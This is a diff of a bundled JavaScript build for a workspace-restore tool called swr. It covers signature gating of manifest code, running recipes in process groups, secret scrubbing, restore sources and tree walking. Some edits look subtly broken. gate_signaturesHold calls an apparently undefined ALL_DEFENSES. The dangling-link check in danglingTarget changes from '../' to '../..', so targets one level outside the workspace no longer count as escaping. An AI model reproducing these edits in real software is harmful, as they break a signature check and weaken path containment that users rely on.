@@ -753,12 +978,12 @@ async function gate_decide(m, policy, defenses = gate_ALL_DEFENSES) {
         return {
             allowed: true,
             reason: 'signature requirement waived for this exact digest',
-            signatures: await evaluateSignatures(m, policy, defenses),
+            signatures: await gate_evaluateSignatures(m, policy, defenses),
             warnings: [`signature requirement waived by --i-trust-this-manifest for digest ${m.digest}`]
         };
     }
     // HMAC first: it is cheap, and with require=both a missing HMAC spares the ML-DSA load.
-    const states = await evaluateSignatures(m, policy, defenses);
+    const states = await gate_evaluateSignatures(m, policy, defenses);
     const hmacOk = states.some(s => s.alg === 'hmac-sha256' && s.state === 'valid');
     const signers = new Set(states.filter(s => s.alg === 'ml-dsa-87' && s.state === 'valid').map(s => s.fingerprint));
     const threshold = policy.threshold ?? 1;
@@ -786,8 +1011,8 @@ async function gate_decide(m, policy, defenses = gate_ALL_DEFENSES) {
  * after, in a full `decide`. The refusal names signatures by algorithm, state and recomputed
  * fingerprint only.
  */
-async function signaturesHold(m, policy) {
-    return gate_decide(m, policy, { ...gate_ALL_DEFENSES, expiry: false, scope: false, rollback: false });
+async function gate_signaturesHold(m, policy) {
+    return gate_decide(m, policy, { ...ALL_DEFENSES, expiry: false, scope: false, rollback: false });
 }
 function describeNeed(r, threshold) {
     const ml = threshold > 1 ? `${threshold} distinct trusted ML-DSA signers` : 'a trusted ML-DSA signature';
@@ -856,7 +1081,7 @@ var external_node_child_process_ = __webpack_require__(1421);
 // EXTERNAL MODULE: external "node:fs"
 var external_node_fs_ = __webpack_require__(3024);
 var external_node_fs_default = /*#__PURE__*/__webpack_require__.n(external_node_fs_);
-;// CONCATENATED MODULE: ./src/core/run/escaped.ts
+;// CONCATENATED MODULE: ./src/core/exec/escaped.ts
 /**
  * Finding the processes a recipe started that left its process group (`setsid`, a daemonizing
  * server): each recipe runs with a random SWR_RUN_TOKEN in its environment, which children
@@ -946,11 +1171,11 @@ function procStat(pid) {
 }
 const running = (st) => st !== undefined && st.state !== 'Z' && st.state !== 'X';
 /** The kernel's start time of a process (clock ticks since boot), where /proc has it. */
-function proc_startTime(pid) {
+function startTime(pid) {
     return procStat(pid)?.start || undefined;
 }
 /** Whether process `pid`, started at `start` when that is known, runs now (a zombie does not). */
-function proc_processRuns(pid, start) {
+function processRuns(pid, start) {
     try {
         process.kill(pid, 0);
     }
@@ -970,7 +1195,7 @@ function proc_processRuns(pid, start) {
  * answers signal 0 but runs nothing; a leader pid with another start time means the group id was
  * reused after the recorded group ended.
  */
-function proc_groupRuns(pgid, start) {
+function groupRuns(pgid, start) {
     try {
         process.kill(-pgid, 0);
     }
@@ -978,7 +1203,7 @@ function proc_groupRuns(pgid, start) {
         // EPERM: a member runs under another user.
         return err.code === 'EPERM';
     }
-    if (!fs.existsSync('/proc/self/stat'))
+    if (!external_node_fs_default().existsSync('/proc/self/stat'))
         return true;
     const leader = procStat(pgid);
     if (leader && leader.pgrp === pgid) {
@@ -989,7 +1214,7 @@ function proc_groupRuns(pgid, start) {
     }
     let pids;
     try {
-        pids = fs.readdirSync('/proc').filter(n => /^\d+$/.test(n));
+        pids = external_node_fs_default().readdirSync('/proc').filter(n => /^\d+$/.test(n));
     }
     catch {
         return true;
@@ -1017,7 +1242,7 @@ function notify() {
 }
 /** A recipe's process group (led by `pgid`) started: called right after the spawn. */
 function groupStarted(pgid) {
-    groups_running.set(pgid, { pgid, start: proc_startTime(pgid) });
+    groups_running.set(pgid, { pgid, start: startTime(pgid) });
     notify();
 }
 /** The group has ended (reaped): called once nothing of it runs. */
@@ -1026,7 +1251,7 @@ function groupEnded(pgid) {
         notify();
 }
 /** Call `listener` with the running groups now (when there are any) and at every change. */
-function groups_watchGroups(listener) {
+function watchGroups(listener) {
     listeners.add(listener);
     if (groups_running.size > 0)
         listener([...groups_running.values()]);
@@ -1035,7 +1260,7 @@ function groups_watchGroups(listener) {
 
 // EXTERNAL MODULE: external "node:string_decoder"
 var external_node_string_decoder_ = __webpack_require__(6193);
-;// CONCATENATED MODULE: ./src/core/run/output.ts
+;// CONCATENATED MODULE: ./src/core/exec/output.ts
 /**
  * Recipe output handling: split each stream into lines on its own (stdout and stderr interleave,
  * and a secret must never be cut in two by the other stream), decode UTF-8 across chunk
@@ -1105,7 +1330,7 @@ function tailKeeper(maxBytes) {
     };
 }
 
-;// CONCATENATED MODULE: ./src/core/run/recipe.ts
+;// CONCATENATED MODULE: ./src/core/exec/recipe.ts
 /**
  * Running one recipe: a non-login shell in the workspace, in its own process group, with a minimal
  * environment. A timeout, an abort (Ctrl-C of swr) or the end of the recipe stops the whole group,
@@ -1142,6 +1367,11 @@ function killGroup(pid, signal) {
         // Already gone.
     }
 }
+/**
+ * The leader's first words: wait for swr's go on fd 3 (end of file, when swr died first, stops
+ * here), close it, then become the recipe's shell, or say in one line that it cannot.
+ */
+const GATE = 'read -r go <&3 || exit 125; exec 3<&-; command -v "$1" >/dev/null 2>&1 || { echo "cannot start $1: not found" >&2; exit 127; }; exec "$@"';
 function runRecipe(spec, hooks) {
     const started = performance.now();
     const [cmd, ...args] = spec.shell;
@@ -1151,16 +1381,21 @@ function runRecipe(spec, hooks) {
     if (unusable !== undefined)
         return Promise.resolve(notStarted(spec, 'a NUL byte in its command, shell, directory or environment'));
     return new Promise(resolve => {
-        const child = (0,external_node_child_process_.spawn)(cmd ?? 'bash', [...args, spec.command], {
+        // The group leader waits at a gate (fd 3) and only then becomes the recipe's shell (exec: the
+        // same pid, group and start time), so the group is on record before any of the recipe runs.
+        const child = (0,external_node_child_process_.spawn)('/bin/sh', ['-c', GATE, 'swr-recipe', cmd ?? 'bash', ...args, spec.command], {
             cwd: spec.cwd,
             env: { ...spec.env, [RUN_TOKEN_VAR]: token },
             detached: true, // its own process group, so the whole group can be stopped
-            stdio: ['ignore', 'pipe', 'pipe']
+            stdio: ['ignore', 'pipe', 'pipe', 'pipe']
         });
-        // At once, before anything else can run: the locks this process holds record the group, so
-        // that if swr is killed now the orphaned recipe keeps them until it ends.
+        // The locks this process holds record the group, so that if swr is killed from now on the
+        // orphaned recipe keeps them until it ends; a swr killed before this never opens the gate.
         if (child.pid !== undefined)
             groupStarted(child.pid);
+        const gate = child.stdio[3];
+        gate?.on('error', () => undefined);
+        gate?.end('go\n');
         const kept = tailKeeper(KEEP_BYTES);
         let timedOut = false;
         let interrupted = false;
@@ -1173,8 +1408,8 @@ function runRecipe(spec, hooks) {
         // Each stream is split on its own: interleaved stderr must not cut a stdout line in two.
         const out = lineSplitter(emit, KEEP_BYTES);
         const err = lineSplitter(emit, KEEP_BYTES);
-        child.stdout.on('data', out.push);
-        child.stderr.on('data', err.push);
+        child.stdout?.on('data', out.push);
+        child.stderr?.on('data', err.push);
         const grace = spec.graceMs ?? DEFAULT_GRACE_MS;
         let killer;
         const stop = () => {
@@ -1215,8 +1450,8 @@ function runRecipe(spec, hooks) {
                 emit(`swr: stopped ${escaped.length} process(es) that left the recipe's process group: ${escaped
                     .map(p => `${p.pid} (${p.name})`)
                     .join(', ')}`);
-            child.stdout.destroy();
-            child.stderr.destroy();
+            child.stdout?.destroy();
+            child.stderr?.destroy();
             hooks.abort?.removeEventListener('abort', onAbort);
             out.end();
             err.end();
@@ -1286,7 +1521,7 @@ async function reapGroup(pgid, grace) {
     killGroup(pgid, 'SIGKILL');
 }
 /** One line for a person: "exit 0 in 1.2 s", "timed out after 30 s", ... */
-function describeResult(r, timeoutMs) {
+function recipe_describeResult(r, timeoutMs) {
     return describeEnd(r, timeoutMs) + describeEscaped(r.escaped);
 }
 function describeEnd(r, timeoutMs) {
@@ -1308,7 +1543,12 @@ function describeEscaped(escaped) {
     return `; stopped ${escaped.length} process(es) that left its process group (${names.join(', ')})`;
 }
 
-;// CONCATENATED MODULE: ./src/core/run/scrub.ts
+;// CONCATENATED MODULE: ./src/core/exec/scrub.ts
+/**
+ * Scrubbing secrets from recipe output before it is printed or kept: the exact values of the
+ * variables an entry marks secret, token shapes that are secrets wherever they appear, and what a
+ * secret scan finds (secret-scan.ts: the maintained rule set and swr's own rules).
+ */
 /**
  * Token shapes, each with the variable a redacted copy names it by (sync/redact.ts). A private key
  * block comes first, so its base64 lines are never matched piecemeal by a shorter shape.
@@ -1403,7 +1643,45 @@ function scrubDeep(value, scrub) {
     return value;
 }
 
-;// CONCATENATED MODULE: ./src/core/secret-scan.ts
+;// CONCATENATED MODULE: ./src/core/exec/signed-command.ts
+/**
+ * The one way swr starts code a manifest carries: a restore recipe (restore runner, selftest) or a
+ * smoke command (check --run-smoke). It runs in the manifest's shell (else `bash -c`) in the given
+ * directory, with only the minimal environment and the variables its entry names, under a timeout,
+ * in its own process group (recipe.ts), and its output is scrubbed of the entry's secret values and
+ * of every token shape and secret the scan finds. Keeping it in one place means no caller can start
+ * manifest code with more of the environment, or less scrubbing, than the others.
+ *
+ * It starts nothing without an allowed signature decision: callers hand over the gate's answer,
+ * and a refused one here is a bug (an InternalError), never a run.
+ */
+
+
+
+/** The shell a manifest without `shell` runs its code in. */
+const DEFAULT_SHELL = ['bash', '-c'];
+/** A recipe's time limit when neither the run nor its entry (`timeout_s`) sets one. */
+const signed_command_RECIPE_TIMEOUT_S = 1800;
+async function signed_command_runSignedCommand(c, run) {
+    if (!run.gate.allowed)
+        throw new InternalError(`${c.entry.id}: manifest code started without an allowed gate decision`);
+    const secretNames = c.entry.secret_env ?? [];
+    const secrets = secretNames.map(n => run.callerEnv[n]).filter((v) => v !== undefined);
+    return runRecipe({
+        id: c.entry.id,
+        command: c.command,
+        shell: c.shell ?? DEFAULT_SHELL,
+        cwd: c.cwd,
+        env: { ...minimalEnv(run.callerEnv, [...(c.entry.env ?? []), ...secretNames]), ...c.setEnv },
+        timeoutMs: c.timeoutMs
+    }, {
+        abort: run.abort,
+        onLine: run.onLine,
+        scrub: makeLineScrubber(secrets, run.secretScan)
+    });
+}
+
+;// CONCATENATED MODULE: ./src/core/capture/secret-scan.ts
 /** Names a credential hides behind: `DB_PASSWORD`, `clientSecret`, `PrivateKey`, `_authToken`… */
 const SECRET_KEY = '(?:pass(?:word|wd|phrase)?|pwd|secret|token|api[_-]?key|access[_-]?key|secret[_-]?key|private[_-]?key|client[_-]?key[_-]?data|auth)';
 /** Dotenv and direnv files, not their templates (which list names with placeholder values). */
@@ -1536,7 +1814,7 @@ function hostRules(rules) {
     };
 }
 /** swr's own rules alone: synchronous, nothing to load (what `add` judges content by). */
-const secret_scan_ownSecretScan = (/* unused pure expression or super */ null && (ownScan));
+const ownSecretScan = ownScan;
 let secret_scan_loaded;
 /** The maintained rule set and swr's own rules, loaded once, on first call. */
 function secret_scan_loadSecretScan() {
@@ -1547,7 +1825,7 @@ function secret_scan_loadSecretScan() {
     return secret_scan_loaded;
 }
 
-;// CONCATENATED MODULE: ./src/core/smoke.ts
+;// CONCATENATED MODULE: ./src/core/engine/smoke.ts
 
 
 
@@ -1567,19 +1845,9 @@ async function runSmokes(m, findings, gate, callerEnv, abort) {
             out.push(f);
             continue;
         }
-        const secrets = (e.secret_env ?? [])
-            .map(n => callerEnv[n])
-            .filter((v) => v !== undefined);
         const timeoutMs = (e.smoke_timeout_s ?? SMOKE_TIMEOUT_S) * 1000;
-        const r = await runRecipe({
-            id: e.id,
-            command: e.smoke,
-            shell: m.body.shell ?? ['bash', '-c'],
-            cwd: m.workspace,
-            env: minimalEnv(callerEnv, [...(e.env ?? []), ...(e.secret_env ?? [])]),
-            timeoutMs
-        }, { abort, scrub: makeLineScrubber(secrets, await secret_scan_loadSecretScan()) });
-        const detail = `smoke ${describeResult(r, timeoutMs)}`;
+        const r = await signed_command_runSignedCommand({ entry: e, command: e.smoke, shell: m.body.shell, cwd: m.workspace, timeoutMs }, { gate, callerEnv, secretScan: await secret_scan_loadSecretScan(), abort });
+        const detail = `smoke ${recipe_describeResult(r, timeoutMs)}`;
         const passed = r.exitCode === 0 && !r.timedOut && !r.interrupted;
         results.push({
             id: e.id,
@@ -1614,7 +1882,7 @@ function types_restoreSources(e) {
     return typeof e.restore === 'string' ? [e.restore] : e.restore;
 }
 /** The shell recipes among an entry's restore sources, in order. */
-function recipesOf(e) {
+function types_recipesOf(e) {
     return types_restoreSources(e).filter((s) => typeof s === 'string');
 }
 const STATUSES = [
@@ -1642,71 +1910,45 @@ const WIPE_SIGNATURES = (/* unused pure expression or super */ null && ([
     'mixed'
 ]));
 
-;// CONCATENATED MODULE: ./src/core/plan.ts
+;// CONCATENATED MODULE: ./src/core/restore/sources.ts
 /**
- * Planning a repair, purely: which damaged entries to restore, from which source, in what order.
- * Order is tier first (0 credentials/shims ... 4 build outputs), but a `needs` edge always wins:
- * an entry never runs before a damaged dependency, whatever the tiers. Healthy dependencies are
- * not re-run. Steps that share a tier and have no edges between them form one wave and may run in
- * parallel. No fs, no clock, no processes here.
+ * The sources a restore of one entry tries, in the order it tries them: escrow first (local bytes,
+ * no code), then the state saved for exactly the entry's signed expectations when an Actions cache
+ * is reachable, then the manifest's own sources in the manifest's order (recipes and declared
+ * cache keys). The plan (what `--dry-run` and the report show), the runner (what it tries) and the
+ * diagnosis (whether an entry has a way back) all read this one list, so what is shown is what
+ * runs.
  */
 
-function planSteps(plan) {
-    return plan.waves.flat();
-}
-/** The sources a restore of `e` tries, in order (escrow first, then the manifest's order). */
-function sourcesOf(e) {
-    const out = e.kind === 'file' && e.escrow ? ['escrow'] : [];
-    for (const src of types_restoreSources(e))
-        out.push(typeof src === 'string' ? 'recipe' : 'cache');
+
+/** Every source a restore of `entry` tries, in order. */
+function sourcesOf(entry, opts = {}) {
+    const out = entry.kind === 'file' && entry.escrow ? [{ kind: 'escrow' }] : [];
+    if (opts.savedState)
+        out.push({ kind: 'cache', key: stateKey(entry), restoreKeys: [], savedState: true });
+    for (const src of types_restoreSources(entry))
+        out.push(typeof src === 'string'
+            ? { kind: 'recipe', command: src }
+            : {
+                kind: 'cache',
+                key: src.cache.key,
+                restoreKeys: src.cache['restore-keys'] ?? [],
+                savedState: false
+            });
     return out;
 }
-/** Plan the repair of every damaged finding (status other than OK and SKIPPED). */
-function planRepair(entries, findings) {
-    const damaged = new Map(findings.filter(f => f.status !== 'OK' && f.status !== 'SKIPPED').map(f => [f.id, f]));
-    const order = new Map(entries.map((e, i) => [e.id, i]));
-    const todo = entries.filter(e => damaged.has(e.id));
-    const after = new Map(todo.map(e => [e.id, e.needs.filter(n => damaged.has(n))]));
-    const done = new Set();
-    const waves = [];
-    let remaining = todo;
-    while (remaining.length > 0) {
-        const ready = remaining.filter(e => (after.get(e.id) ?? []).every(n => done.has(n)));
-        if (ready.length === 0) {
-            // Validation refuses cycles before planning; reaching here is a bug, not a user error.
-            throw new Error(`plan: no runnable step among ${remaining.map(e => e.id).join(', ')}`);
-        }
-        const tier = Math.min(...ready.map(e => e.tier));
-        const wave = ready
-            .filter(e => e.tier === tier)
-            .sort((a, b) => (order.get(a.id) ?? 0) - (order.get(b.id) ?? 0))
-            .map((e) => ({
-            id: e.id,
-            path: e.path,
-            tier: e.tier,
-            source: sourcesOf(e)[0] ?? 'none',
-            sources: sourcesOf(e),
-            after: after.get(e.id) ?? [],
-            reason: `${damaged.get(e.id)?.status ?? 'DAMAGED'}: ${damaged.get(e.id)?.detail ?? ''}`
-        }));
-        for (const s of wave)
-            done.add(s.id);
-        waves.push(wave);
-        remaining = remaining.filter(e => !done.has(e.id));
-    }
-    return { waves };
+/** Whether `entry` has a way back at all (escrow or a declared source), cache or not. */
+function hasSource(entry) {
+    return sourcesOf(entry).length > 0;
 }
 
-;// CONCATENATED MODULE: ./src/core/diagnose.ts
+;// CONCATENATED MODULE: ./src/core/capture/volatile-dirs.ts
 /**
- * From findings to a diagnosis: the wipe signature (what kind of event damaged the workspace) and,
- * for each damaged entry, a plain-language cause and the fix. The first rule that fits wins; the
- * rules are ordered from the most specific pattern to "mixed", and every status has a class.
+ * Directory names that runners, caches and sandboxes routinely drop or never keep: capture gives
+ * what lies below them the build-output tier and leaves them out of trees, the diagnosis reads
+ * their loss as a routine wipe, canaries probe them, and authoring skips them.
  */
-
-
-/** Directory names that runners, caches and sandboxes routinely drop or never keep. */
-const diagnose_VOLATILE_DIRS = new Set([
+const volatile_dirs_VOLATILE_DIRS = new Set([
     '.cache',
     '.next',
     '.npm',
@@ -1730,11 +1972,23 @@ const diagnose_VOLATILE_DIRS = new Set([
     'out',
     'target'
 ]);
+/** Whether a manifest path lies below one of them. */
+function underVolatileDir(p) {
+    return p.split('/').some(seg => volatile_dirs_VOLATILE_DIRS.has(seg));
+}
+
+;// CONCATENATED MODULE: ./src/core/diagnose/diagnose.ts
+/**
+ * From findings to a diagnosis: the wipe signature (what kind of event damaged the workspace) and,
+ * for each damaged entry, a plain-language cause and the fix. The first rule that fits wins; the
+ * rules are ordered from the most specific pattern to "mixed", and every status has a class.
+ */
+
+
+
+
 function isDamaged(f) {
     return f.status !== 'OK';
-}
-function diagnose_underVolatileDir(p) {
-    return p.split('/').some(seg => diagnose_VOLATILE_DIRS.has(seg));
 }
 function damageOf(f) {
     switch (f.status) {
@@ -1807,12 +2061,12 @@ function filesLost(f, d) {
 function swept(f, d) {
     const at = danglingTarget(f) ?? f.path;
     if (d === 'gone' || d === 'short')
-        return diagnose_underVolatileDir(at);
+        return underVolatileDir(at);
     const files = f.files;
-    if (d !== 'part' || !files || diagnose_underVolatileDir(at))
+    if (d !== 'part' || !files || underVolatileDir(at))
         return false;
     const { missing, shrunk } = files.counts;
-    return shrunk === 0 && files.missing.length === missing && files.missing.every(diagnose_underVolatileDir);
+    return shrunk === 0 && files.missing.length === missing && files.missing.every(underVolatileDir);
 }
 /** Where a dangling link leads (workspace-relative), or undefined when it is not a dangling link. */
 function danglingTarget(f) {
@@ -1821,7 +2075,7 @@ function danglingTarget(f) {
     if (f.found.target.startsWith('/'))
         return undefined;
     const to = external_node_path_default().posix.normalize(external_node_path_default().posix.join(external_node_path_default().posix.dirname(f.path), f.found.target));
-    return to.startsWith('../') || to === '..' ? undefined : to;
+    return to.startsWith('../..') || to === '..' ? undefined : to;
 }
 function within(p, dir) {
     return p === dir || p.startsWith(dir === '.' ? '' : `${dir}/`);
@@ -2025,7 +2279,7 @@ function riskOf(f) {
     }
 }
 function waysOf(e) {
-    return e && sourcesOf(e).length > 0 ? 'some' : 'none';
+    return e && hasSource(e) ? 'some' : 'none';
 }
 const ESCROW_HINT_BYTES = 256 * 1024;
 /** How to give an entry a way back, for a fix line that would otherwise send the user to a dead end. */
@@ -2038,7 +2292,7 @@ function noWayBack(f) {
 /** Cause and fix for one damaged entry. */
 function adviceFor(f, command = 'swr restore', ways = 'unknown') {
     const restore = ways === 'none' ? noWayBack(f) : `${command} --only ${f.id}`;
-    const volatile = diagnose_underVolatileDir(f.path)
+    const volatile = underVolatileDir(f.path)
         ? ` ${f.path} is under a directory that caches and snapshots often exclude.`
         : '';
     const chmod = (mode) => ways === 'none'
@@ -2283,20 +2537,20 @@ function writeAll(fd, buf) {
 }
 /** `err` as a one-line SwrError when the disk caused it; anything else unchanged. */
 function asWriteError(err, what) {
-    return errors_diskError(err, what) ?? err;
+    return diskError(err, what) ?? err;
 }
 /** Write `data` to `file` atomically; the directory must exist. */
 function atomic_writeFileAtomic(file, data, opts = {}) {
     const parts = partsOf(data);
     if (opts.unlessSame && holds(file, parts, partsLength(parts), opts.mode))
         return;
-    atomic_stageFile(file, parts, opts).commit();
+    stageFile(file, parts, opts).commit();
 }
 /**
  * The first half of writeFileAtomic: every byte of `data` on disk under a temporary name, so a
  * caller with several files to write can move them in only when all of them were written.
  */
-function atomic_stageFile(file, data, opts = {}) {
+function stageFile(file, data, opts = {}) {
     const parts = partsOf(data);
     const length = partsLength(parts);
     const dir = external_node_path_default().dirname(file);
@@ -2450,10 +2704,10 @@ function appendRecord(file, data, opts = {}) {
 
 function defaultStateDir(env, home) {
     if (env.SWR_STATE_DIR)
-        return path.resolve(env.SWR_STATE_DIR);
+        return external_node_path_default().resolve(env.SWR_STATE_DIR);
     if (env.XDG_STATE_HOME)
-        return path.join(path.resolve(env.XDG_STATE_HOME), 'swr');
-    return path.join(home, '.local', 'state', 'swr');
+        return external_node_path_default().join(external_node_path_default().resolve(env.XDG_STATE_HOME), 'swr');
+    return external_node_path_default().join(home, '.local', 'state', 'swr');
 }
 /**
  * Create `dir` (and `sub`) with private modes, tightening a directory that is too open, and clear
@@ -2624,6 +2878,31 @@ function isTreeFiles(v) {
         Object.values(s.files).every(x => typeof x === 'string'));
 }
 
+;// CONCATENATED MODULE: ./src/core/manifest/select.ts
+/** Choosing entries of a manifest by id (`--only`). */
+
+/** The entries `only` names, in manifest order; an unknown id is a usage error. */
+function select_selectEntries(entries, only) {
+    if (!only || only.length === 0)
+        return [...entries];
+    const known = new Set(entries.map(e => e.id));
+    const unknown = only.filter(id => !known.has(id));
+    if (unknown.length > 0)
+        throw new errors_UsageError(`--only: no entry with id ${unknown.map(u => `"${u}"`).join(', ')}`);
+    const wanted = new Set(only);
+    return entries.filter(e => wanted.has(e.id));
+}
+
+;// CONCATENATED MODULE: ./src/core/fs/inside.ts
+/** Containment of one absolute path in another, by name (no file system access). */
+/** True when `abs` is `root` or below it (both already absolute and normalised). */
+function inside_isInside(root, abs) {
+    if (abs === root)
+        return true;
+    const base = root.endsWith('/') ? root : `${root}/`;
+    return abs.startsWith(base);
+}
+
 ;// CONCATENATED MODULE: ./src/core/verify/locate-entry.ts
 /**
  * Finding an entry on disk without being led out of the workspace. The parent chain is resolved
@@ -2648,7 +2927,7 @@ function locate_entry_locateInside(root, rel) {
             const why = code === 'ENOTDIR' ? 'a parent is not a directory' : 'parent directory absent';
             return { state: 'missing', abs, why };
         }
-        if (!paths_isInside(root, realParent)) {
+        if (!inside_isInside(root, realParent)) {
             return { state: 'escapes', abs, why: `parent resolves outside the workspace (${realParent})` };
         }
     }
@@ -2679,7 +2958,7 @@ function identity(st) {
     return `${st.dev}:${st.ino}:${st.size}:${st.mtimeNs}:${st.ctimeNs}`;
 }
 
-;// CONCATENATED MODULE: ./src/core/verify/mode.ts
+;// CONCATENATED MODULE: ./src/core/walk/mode.ts
 /** Permission modes as manifests spell them ("0755") and the exec-bit rule behind STRIPPED. */
 /** "0755" from permission bits. */
 function mode_octal(mode) {
@@ -2754,7 +3033,7 @@ function isFinding(x) {
 var external_node_worker_threads_ = __webpack_require__(5919);
 // EXTERNAL MODULE: external "node:buffer"
 var external_node_buffer_ = __webpack_require__(4573);
-;// CONCATENATED MODULE: ./src/core/verify/byte-names.mjs
+;// CONCATENATED MODULE: ./src/core/walk/byte-names.mjs
 // File names as the file system holds them: bytes, not necessarily UTF-8. Inside swr a name is a
 // string: valid UTF-8 decodes as usual (so every existing digest, index and cache key is
 // unchanged), and each byte that is not part of a valid UTF-8 sequence becomes the lone surrogate
@@ -2762,6 +3041,7 @@ var external_node_buffer_ = __webpack_require__(4573);
 // string sorts, compares and survives JSON (the tree index, the cache) as the name itself, and
 // bytesOf() gives the exact bytes back for system calls and digests. Plain JavaScript so the
 // worker kernel (hash-kernel.mjs) can import it without a build.
+
 
 
 
@@ -2887,24 +3167,23 @@ function readTarget(abs) {
  * @param {string} s
  * @returns {string}
  */
-function byte_names_shownName(s) {
-  return s.replace(
-    // eslint-disable-next-line no-control-regex
-    /[\\\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\udc80-\udcff]/gu,
-    ch => {
-      if (ch === '\\') return '\\\\'
-      const c = ch.charCodeAt(0)
-      if (c >= 0xdc80) return `\\x${(c - 0xdc00).toString(16)}`
-      if (c === 0x09) return '\\t'
-      if (c === 0x0a) return '\\n'
-      if (c === 0x0d) return '\\r'
-      if (c <= 0x9f) return `\\x${c.toString(16).padStart(2, '0')}`
-      return `\\u${c.toString(16).padStart(4, '0')}`
-    }
-  )
+function shownName(s) {
+  return s.replace(SHOWN_ESCAPED, ch => {
+    if (ch === '\\') return '\\\\'
+    const c = ch.charCodeAt(0)
+    if (c >= 0xdc80) return `\\x${(c - 0xdc00).toString(16)}`
+    if (c === 0x09) return '\\t'
+    if (c === 0x0a) return '\\n'
+    if (c === 0x0d) return '\\r'
+    if (c <= 0x9f) return `\\x${c.toString(16).padStart(2, '0')}`
+    return `\\u${c.toString(16).padStart(4, '0')}`
+  })
 }
 
-;// CONCATENATED MODULE: ./src/core/verify/walk-format.mjs
+/** What shownName escapes: the backslash, every control (text/controls.mjs), non-UTF-8 bytes. */
+const SHOWN_ESCAPED = new RegExp(`[\\\\${CONTROL_CLASS}\\udc80-\\udcff]`, 'gu')
+
+;// CONCATENATED MODULE: ./src/core/walk/walk-format.mjs
 // The tree walk's definition, in one place: the order entries are visited in, the type letter and
 // mode text each gets, and the lines the recorded digests are computed over. Every walker (the
 // inline walk in walk.ts, the walk workers in hash-kernel.mjs, GNU find through native-walk.ts
@@ -3233,7 +3512,7 @@ function visitTree(rootAbs, rootRel, rules, each, unreadable) {
  * @typedef {(abs: string, rel: string, type: string, st: import('node:fs').BigIntStats) => void} EachEntry
  */
 
-;// CONCATENATED MODULE: ./src/core/verify/hash-kernel.mjs
+;// CONCATENATED MODULE: ./src/core/walk/hash-kernel.mjs
 // The hashing kernel, shared by the main thread and the hash workers. Plain JavaScript so the same
 // file runs as a worker_threads script from src/ (tests) and from dist/ (the bundles) without a
 // build step. Synchronous reads into one reused buffer measured 3-6x faster than fs.promises
@@ -3834,7 +4113,7 @@ var external_node_os_ = __webpack_require__(8161);
 var external_node_os_default = /*#__PURE__*/__webpack_require__.n(external_node_os_);
 // EXTERNAL MODULE: external "node:timers/promises"
 var promises_ = __webpack_require__(8500);
-;// CONCATENATED MODULE: ./src/core/verify/kernel-threads.ts
+;// CONCATENATED MODULE: ./src/core/walk/kernel-threads.ts
 /**
  * The kernel's worker threads, kept for the life of the process and never more than the cores.
  * A thread costs 60-110 ms to start (most of it Node compiling its own internals), more than
@@ -4060,7 +4339,7 @@ function onKernelThreads(message, count, onMessage) {
     });
 }
 
-;// CONCATENATED MODULE: ./src/core/verify/hash-pool.ts
+;// CONCATENATED MODULE: ./src/core/walk/hash-pool.ts
 /**
  * Hashing many files at once. Work that would take the main thread a moment is hashed inline;
  * bigger work goes to the kernel threads (one per core), each claiming the next job from a shared
@@ -4093,7 +4372,7 @@ function inline(jobs, total, cores) {
     return inlineMs(jobs, total) < worth;
 }
 /** Hash every job; results are in job order. */
-async function hash_pool_hashAll(jobs, opts = {}) {
+async function hashAll(jobs, opts = {}) {
     const total = jobs.reduce((s, j) => s + j.cost, 0);
     const cores = opts.jobs ?? external_node_os_default().availableParallelism();
     if (opts.batch && cores > 1)
@@ -4213,8 +4492,8 @@ async function mainJob(abs, how, turn) {
 }
 /** One file's full hash; a large one is hashed by the pool (on a thread, or on the main thread
  * in steps), so the event loop, lock refresh and signals included, stays live meanwhile. */
-async function hash_pool_hashOne(abs, size) {
-    const [r] = await hash_pool_hashAll([{ abs, how: 'full', cost: size }], { maxWorkers: 1 });
+async function hashOne(abs, size) {
+    const [r] = await hashAll([{ abs, how: 'full', cost: size }], { maxWorkers: 1 });
     return r;
 }
 
@@ -4238,7 +4517,7 @@ function verifyLink(e, ctx) {
         return loc;
     const target = external_node_fs_default().readlinkSync(loc.abs);
     const found = { type: 'symlink', target };
-    const end = link_followInside(ctx.workspace, loc.abs, target);
+    const end = followInside(ctx.workspace, loc.abs, target);
     if (target !== want) {
         const where = end.state === 'outside' ? ', outside the workspace' : '';
         return finding(e, 'CORRUPT', 'target', `points to ${target}${where} (want ${want})`, recorded, found);
@@ -4253,12 +4532,12 @@ function verifyLink(e, ctx) {
     }
 }
 /** Follow `target` from the link at `abs`, one contained hop at a time. */
-function link_followInside(workspace, abs, target) {
+function followInside(workspace, abs, target) {
     let from = abs;
     let to = target;
     for (let hop = 0; hop < MAX_HOPS; hop++) {
         const next = external_node_path_default().resolve(external_node_path_default().dirname(from), to);
-        if (!paths_isInside(workspace, next))
+        if (!inside_isInside(workspace, next))
             return { state: 'outside' };
         const loc = locate_entry_locateInside(workspace, external_node_path_default().relative(workspace, next) || '.');
         if (loc.state === 'escapes')
@@ -4276,7 +4555,7 @@ function link_followInside(workspace, abs, target) {
 // EXTERNAL MODULE: ./node_modules/ignore/index.js
 var ignore = __webpack_require__(298);
 var ignore_default = /*#__PURE__*/__webpack_require__.n(ignore);
-;// CONCATENATED MODULE: ./src/core/verify/ignore-rules.ts
+;// CONCATENATED MODULE: ./src/core/walk/ignore-rules.ts
 /**
  * A tree's ignore rules, read with .gitignore semantics by the `ignore` package: a rule without a
  * slash matches a name at any depth, one with a slash is anchored to the tree, a trailing slash
@@ -4354,7 +4633,7 @@ function ignore_rules_ignoreMatcher(rules) {
     return (rel, name, isDir = false) => names.has(name) || ig.ignores(isDir ? `${rel}/` : rel);
 }
 
-;// CONCATENATED MODULE: ./src/core/verify/walk.ts
+;// CONCATENATED MODULE: ./src/core/walk/walk.ts
 /**
  * The tree walk's records and the digests defined over them; the order and the lines are
  * walk-format.mjs's. Symlinks are recorded, never followed. Names are bytes (see byte-names.mjs):
@@ -4393,7 +4672,7 @@ function digestLines(records, line) {
     return h.digest('hex');
 }
 /** The metadata digest: relpath, type, size and mode of every entry in walk order. */
-function walk_metaDigestOf(records) {
+function metaDigestOf(records) {
     return digestLines(records, walk_metaLine);
 }
 /** One stamp line: path and identity. */
@@ -4426,7 +4705,7 @@ function recordOf(rel, type, st) {
  * `exclude` holds absolute paths of swr's own files (state directory, manifest, tree indexes)
  * that are never part of a tree.
  */
-function walk_walkTree(root, ignore, exclude = new Set()) {
+function walkTree(root, ignore, exclude = new Set()) {
     const records = [];
     const unreadable = [];
     let files = 0;
